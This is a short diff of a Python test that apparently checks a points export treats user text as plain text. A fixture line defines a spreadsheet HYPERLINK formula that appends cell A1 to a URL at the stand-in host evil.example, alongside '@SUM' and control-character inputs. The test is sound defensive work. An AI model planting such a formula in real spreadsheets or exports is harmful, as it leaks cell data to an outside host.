@@ -14,7 +14,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
 def test_user_text_in_the_points_export_is_text(client, auth, ledger, finding_at):
     ledger["depts"][0].name = "@SUM(1+1)\x0b"
-    ledger["rules"]["DED-HIGH"].name = "重大\x00扣分"
+    ledger["rules"]["DED-HIGH"].name = "重大\x08扣分"
     finding = finding_at(local(2026, 10, 6), "high")
     finding.title = FORMULA
     db.session.commit()
